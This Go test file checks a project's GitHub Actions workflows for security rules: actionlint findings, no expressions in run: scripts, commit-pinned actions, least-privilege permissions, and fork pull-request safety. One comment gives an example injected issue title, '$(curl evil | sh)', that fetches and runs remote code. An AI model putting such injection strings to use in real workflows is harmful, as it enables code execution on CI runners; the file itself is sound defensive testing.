package sev

// These tests hold the GitHub Actions files sev ships (action.yml, the
// workflows under .github/workflows and the incident issue form) to
// actionlint and to the security rules of docs/workflows.md: no
// expression inside a run: script, actions pinned by commit, least
// privilege per job, nothing that writes on a pull request from a fork.

import (
	"fmt"
	"io"
	"maps"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/rhysd/actionlint"
	"go.yaml.in/yaml/v3"
)

// shippedFiles are the files the tests check: action.yml and every
// workflow.
func shippedFiles(t *testing.T) []string {
	t.Helper()
	workflows, _ := filepath.Glob(filepath.Join(".github", "workflows", "*.yml"))
	if len(workflows) == 0 {
		t.Fatal("no workflows under .github/workflows")
	}
	return append([]string{"action.yml"}, workflows...)
}

// newLinter is actionlint with shellcheck when it is installed (actionlint
// then also checks every run: script).
func newLinter(t *testing.T) (*actionlint.Linter, *actionlint.Project) {
	t.Helper()
	opts := &actionlint.LinterOptions{}
	if path, err := exec.LookPath("shellcheck"); err == nil {
		opts.Shellcheck = path
	} else {
		t.Log("shellcheck is not installed: run: scripts are not checked (apt-get install shellcheck)")
	}
	l, err := actionlint.NewLinter(io.Discard, opts)
	if err != nil {
		t.Fatal(err)
	}
	root, err := filepath.Abs(".")
	if err != nil {
		t.Fatal(err)
	}
	p, err := actionlint.NewProject(root)
	if err != nil {
		t.Fatal(err)
	}
	return l, p
}

// knownGap matches the one actionlint finding that is wrong: GitHub added
// concurrency.queue in May 2026 and actionlint v1.7.12 predates it
// (rhysd/actionlint#657). TestConcurrency checks the key's values instead.
var knownGap = regexp.MustCompile(`^unexpected key "queue" for "concurrency" section\. expected one of "cancel-in-progress", "group"$`)

// TestActionlint runs actionlint over every workflow. actionlint also reads
// action.yml for the steps that use it (uses: ./), checking its metadata
// and the inputs each step passes.
func TestActionlint(t *testing.T) {
	l, p := newLinter(t)
	files := shippedFiles(t)[1:]
	errs, err := l.LintFiles(files, p)
	if err != nil {
		t.Fatal(err)
	}
	gaps := 0
	for _, e := range errs {
		if e.Kind == "syntax-check" && knownGap.MatchString(e.Message) {
			gaps++
			continue
		}
		t.Errorf("%s:%d:%d: %s [%s]", e.Filepath, e.Line, e.Column, e.Message, e.Kind)
	}
	if uses := countQueue(t, files); gaps != uses {
		t.Errorf("actionlint reported %d unknown queue keys for %d uses; if it now knows the key, remove knownGap", gaps, uses)
	}
}

// TestActionSteps lints action.yml's composite steps, which actionlint
// does not check in an action: the steps are copied, line for line and
// indented once more, into a workflow whose workflow_dispatch inputs are
// the action's inputs, and each finding is mapped back to action.yml.
func TestActionSteps(t *testing.T) {
	src, err := os.ReadFile("action.yml")
	if err != nil {
		t.Fatal(err)
	}
	wrapper, offset, err := actionAsWorkflow(src)
	if err != nil {
		t.Fatal(err)
	}
	l, p := newLinter(t)
	errs, err := l.Lint("action.yml (as a workflow)", wrapper, p)
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range errs {
		line, col := e.Line-offset, e.Column-4
		if line < 1 {
			t.Errorf("the test's wrapper workflow, line %d:%d: %s [%s]\n%s", e.Line, e.Column, e.Message, e.Kind, wrapper)
			continue
		}
		t.Errorf("action.yml:%d:%d: %s [%s]", line, col, e.Message, e.Kind)
	}
}

// actionAsWorkflow builds the wrapper workflow and returns how many lines
// the wrapper adds before action.yml's line 1.
func actionAsWorkflow(src []byte) ([]byte, int, error) {
	var action struct {
		Inputs map[string]any `yaml:"inputs"`
		Runs   yaml.Node      `yaml:"runs"`
	}
	if err := yaml.Unmarshal(src, &action); err != nil {
		return nil, 0, err
	}
	steps := mapValue(&action.Runs, "steps")
	if steps == nil || steps.Kind != yaml.SequenceNode || len(steps.Content) == 0 {
		return nil, 0, fmt.Errorf("action.yml: runs.steps is not a list of steps")
	}
	var b strings.Builder
	b.WriteString("on:\n  workflow_dispatch:\n    inputs:\n")
	for _, name := range slices.Sorted(maps.Keys(action.Inputs)) {
		fmt.Fprintf(&b, "      %s:\n        type: string\n", name)
	}
	b.WriteString("permissions: {}\njobs:\n  action:\n    runs-on: ubuntu-latest\n    steps:\n")
	lines := strings.Split(string(src), "\n")
	first := steps.Content[0].Line // the first step's line (1-based)
	dash := len(lines[first-1]) - len(strings.TrimLeft(lines[first-1], " "))
	header := strings.Count(b.String(), "\n")
	for _, l := range lines[first-1:] {
		trimmed := strings.TrimLeft(l, " ")
		if trimmed != "" && !strings.HasPrefix(trimmed, "#") && len(l)-len(trimmed) < dash {
			break // the next key after runs.steps
		}
		if l != "" {
			b.WriteString("    " + l)
		}
		b.WriteString("\n")
	}
	return []byte(b.String()), header - (first - 1), nil
}

// TestNoExpressionsInRun: no run: script in a shipped file contains ${{ }}.
// An expression there is pasted into the script before the shell parses
// it, so an issue title such as $(curl evil | sh) would run; values reach
// scripts through env: and are quoted there.
func TestNoExpressionsInRun(t *testing.T) {
	for _, f := range shippedFiles(t) {
		root := parseYAML(t, f)
		walkYAML(root, func(key, value *yaml.Node) {
			if key.Value == "run" && strings.Contains(value.Value, "${{") {
				t.Errorf("%s:%d:%d: a run: script contains ${{ }}; pass the value through env: and use \"$NAME\"", f, value.Line, value.Column)
			}
		})
	}
}

var (
	pinned    = regexp.MustCompile(`^[A-Za-z0-9_.-]+/[A-Za-z0-9_.-]+(/[A-Za-z0-9_./-]+)?@[0-9a-f]{40}$`)
	versionIs = regexp.MustCompile(`^# v[0-9]+\.[0-9]+\.[0-9]+$`)
	localUses = regexp.MustCompile(`^\./(\.github/workflows/[a-z-]+\.yml)?$`)
)

// TestActionsPinned: every action or reusable workflow is either this
// repository's own (./, ./.github/workflows/…) or pinned by a full commit
// id with the release it is as a "# vX.Y.Z" comment.
func TestActionsPinned(t *testing.T) {
	versions := map[string]string{}
	for _, f := range shippedFiles(t) {
		walkYAML(parseYAML(t, f), func(key, value *yaml.Node) {
			if key.Value != "uses" {
				return
			}
			pos := fmt.Sprintf("%s:%d:%d", f, value.Line, value.Column)
			switch {
			case localUses.MatchString(value.Value):
				if value.Value != "./" {
					if _, err := os.Stat(value.Value); err != nil {
						t.Errorf("%s: %s does not exist", pos, value.Value)
					}
				}
			case !pinned.MatchString(value.Value) || !versionIs.MatchString(value.LineComment):
				t.Errorf("%s: %q %q is not pinned as owner/repo@<40-hex commit> # vX.Y.Z", pos, value.Value, value.LineComment)
			default:
				// One version of each action everywhere.
				name, _, _ := strings.Cut(value.Value, "@")
				if v, ok := versions[name]; ok && v != value.Value+" "+value.LineComment {
					t.Errorf("%s: %s is pinned as %q here and %q elsewhere", pos, name, value.Value+" "+value.LineComment, v)
				}
				versions[name] = value.Value + " " + value.LineComment
			}
		})
	}
}

// jobsOf is each job of a workflow file by id.
func jobsOf(t *testing.T, f string) map[string]*yaml.Node {
	t.Helper()
	jobs := map[string]*yaml.Node{}
	if j := mapValue(parseYAML(t, f), "jobs"); j != nil {
		for i := 0; i+1 < len(j.Content); i += 2 {
			jobs[j.Content[i].Value] = j.Content[i+1]
		}
	}
	return jobs
}

// TestPermissions: each workflow grants nothing at its top level and each
// job says what it needs; writes are granted only to the jobs that write,
// and a checkout keeps no credentials in .git/config (sev pushes with the
// token from its environment).
func TestPermissions(t *testing.T) {
	writers := map[string]bool{"automate.yml/automate": true, "chatops.yml/command": true, "intake.yml/declare": true,
		"validate.yml/review": true}
	for _, f := range shippedFiles(t)[1:] {
		root := parseYAML(t, f)
		if p := mapValue(root, "permissions"); p == nil || p.Kind != yaml.MappingNode || len(p.Content) != 0 {
			t.Errorf("%s: the workflow must set permissions: {} and grant per job", f)
		}
		for id, job := range jobsOf(t, f) {
			where := filepath.Base(f) + "/" + id
			perms := mapValue(job, "permissions")
			if perms == nil {
				t.Errorf("%s: job %s has no permissions:", f, id)
				continue
			}
			for i := 0; i+1 < len(perms.Content); i += 2 {
				scope, level := perms.Content[i].Value, perms.Content[i+1].Value
				pagesDeploy := (scope == "pages" || scope == "id-token") && (id == "deploy" || id == "site")
				// sev's own release publishes, signs and stores the provenance
				release := where == "release.yml/release" && (scope == "contents" || scope == "id-token" || scope == "attestations")
				if level == "write" && !writers[where] && !pagesDeploy && !release {
					t.Errorf("%s:%d: job %s is granted %s: write", f, perms.Content[i].Line, id, scope)
				}
			}
			walkYAML(job, func(key, value *yaml.Node) {
				if key.Value == "uses" && strings.HasPrefix(value.Value, "actions/checkout@") {
					with := mapValue(parentStep(job, value), "with")
					if pc := mapValue(with, "persist-credentials"); pc == nil || pc.Value != "false" {
						t.Errorf("%s:%d: the checkout must set persist-credentials: false", f, value.Line)
					}
				}
			})
		}
	}
}

// TestForkPullRequests: in a workflow a pull request starts, a job that
// can write runs only for pull requests from this repository.
func TestForkPullRequests(t *testing.T) {
	for _, f := range shippedFiles(t)[1:] {
		if mapValue(mapValue(parseYAML(t, f), "on"), "pull_request") == nil {
			continue
		}
		for id, job := range jobsOf(t, f) {
			perms := mapValue(job, "permissions")
			writes := perms == nil || slices.ContainsFunc(perms.Content, func(n *yaml.Node) bool { return n.Value == "write" })
			cond := mapValue(job, "if")
			if writes && (cond == nil || !strings.Contains(cond.Value, "github.event.pull_request.head.repo.full_name == github.repository")) {
				t.Errorf("%s: job %s can write but also runs for pull requests from forks", f, id)
			}
		}
	}
}

// TestConcurrency checks what actionlint cannot yet (see knownGap): queue
// is single or max, never with cancel-in-progress: true; and the jobs that
// write to the repository share one group.
func TestConcurrency(t *testing.T) {
	groups := map[string]string{}
	for _, f := range shippedFiles(t)[1:] {
		walkYAML(parseYAML(t, f), func(key, value *yaml.Node) {
			if key.Value != "concurrency" || value.Kind != yaml.MappingNode {
				return
			}
			q, cancel := mapValue(value, "queue"), mapValue(value, "cancel-in-progress")
			if q != nil && q.Value != "single" && q.Value != "max" {
				t.Errorf("%s:%d: queue is %q, not single or max", f, q.Line, q.Value)
			}
			if q != nil && q.Value == "max" && cancel != nil && cancel.Value == "true" {
				t.Errorf("%s:%d: queue: max cannot go with cancel-in-progress: true", f, q.Line)
			}
		})
		for id, job := range jobsOf(t, f) {
			if g := mapValue(mapValue(job, "concurrency"), "group"); g != nil {
				groups[filepath.Base(f)+"/"+id] = g.Value
			}
		}
	}
	want := "sev-write-${{ github.repository }}"
	for _, w := range []string{"automate.yml/automate", "chatops.yml/command", "intake.yml/declare"} {
		if groups[w] != want {
			t.Errorf("%s: concurrency group %q, want %q", w, groups[w], want)
		}
	}
}

// TestIssueForm: the intake workflow starts on the label the form adds,
// and on an issue opened with the form's headings (GitHub drops a label
// the repository lacks).
func TestIssueForm(t *testing.T) {
	form := parseYAML(t, filepath.Join(".github", "ISSUE_TEMPLATE", "declare-incident.yml"))
	labels := mapValue(form, "labels")
	cond := mapValue(jobsOf(t, filepath.Join(".github", "workflows", "intake.yml"))["check"], "if")
	if labels == nil || len(labels.Content) != 1 || cond == nil {
		t.Fatal("the form has no label, or intake's check job no condition")
	}
	label := labels.Content[0].Value
	for _, want := range []string{"github.event.label.name == '" + label + "'", "!contains(github.event.issue.labels.*.name, '" + label + "')"} {
		if !strings.Contains(cond.Value, want) {
			t.Errorf("intake's condition lacks %s", want)
		}
	}
	ids := []string{}
	walkYAML(form, func(key, value *yaml.Node) {
		if key.Value == "id" {
			ids = append(ids, value.Value)
		}
		if key.Value == "label" && !strings.Contains(cond.Value, "'### "+value.Value+"'") {
			t.Errorf("intake's condition does not look for the form's heading %q", "### "+value.Value)
		}
	})
	if strings.Join(ids, " ") != "severity what noticed" {
		t.Errorf("the form's field ids are %q; sev github intake reads severity, what and noticed", ids)
	}
}

func countQueue(t *testing.T, files []string) int {
	n := 0
	for _, f := range files {
		walkYAML(parseYAML(t, f), func(key, _ *yaml.Node) {
			if key.Value == "queue" {
				n++
			}
		})
	}
	return n
}

func parseYAML(t *testing.T, path string) *yaml.Node {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	var doc yaml.Node
	if err := yaml.Unmarshal(data, &doc); err != nil {
		t.Fatalf("%s: %v", path, err)
	}
	if len(doc.Content) != 1 {
		t.Fatalf("%s: not one YAML document", path)
	}
	return doc.Content[0]
}

// walkYAML calls fn for every key and value of every mapping under n.
func walkYAML(n *yaml.Node, fn func(key, value *yaml.Node)) {
	if n == nil {
		return
	}
	if n.Kind == yaml.MappingNode {
		for i := 0; i+1 < len(n.Content); i += 2 {
			fn(n.Content[i], n.Content[i+1])
		}
	}
	for _, c := range n.Content {
		walkYAML(c, fn)
	}
}

// mapValue is the value of key in the mapping m, or nil.
func mapValue(m *yaml.Node, key string) *yaml.Node {
	if m == nil || m.Kind != yaml.MappingNode {
		return nil
	}
	for i := 0; i+1 < len(m.Content); i += 2 {
		if m.Content[i].Value == key {
			return m.Content[i+1]
		}
	}
	return nil
}

// parentStep is the mapping under root that holds value.
func parentStep(root, value *yaml.Node) *yaml.Node {
	var found *yaml.Node
	var visit func(n *yaml.Node)
	visit = func(n *yaml.Node) {
		for _, c := range n.Content {
			if c == value && n.Kind == yaml.MappingNode {
				found = n
			}
			visit(c)
		}
	}
	visit(root)
	return found
}

// TestSiteDeploysOnlyValidatedCommits: in the site workflow, the job that
// builds what is deployed runs sev validate before sev build, so a commit
// that fails validation never reaches Pages.
func TestSiteDeploysOnlyValidatedCommits(t *testing.T) {
	f := filepath.Join(".github", "workflows", "site.yml")
	build := jobsOf(t, f)["build"]
	if build == nil {
		t.Fatalf("%s has no build job", f)
	}
	steps := mapValue(build, "steps")
	validated := false
	for _, step := range steps.Content {
		cmd := mapValue(mapValue(step, "with"), "command")
		if cmd == nil || mapValue(step, "if") != nil || mapValue(step, "continue-on-error") != nil {
			continue
		}
		switch fields := strings.Fields(cmd.Value); fields[0] {
		case "validate":
			validated = true
		case "build":
			if !validated {
				t.Errorf("%s:%d: sev build runs before sev validate", f, cmd.Line)
			}
			return
		}
	}
	t.Errorf("%s: the build job never runs sev build", f)
}
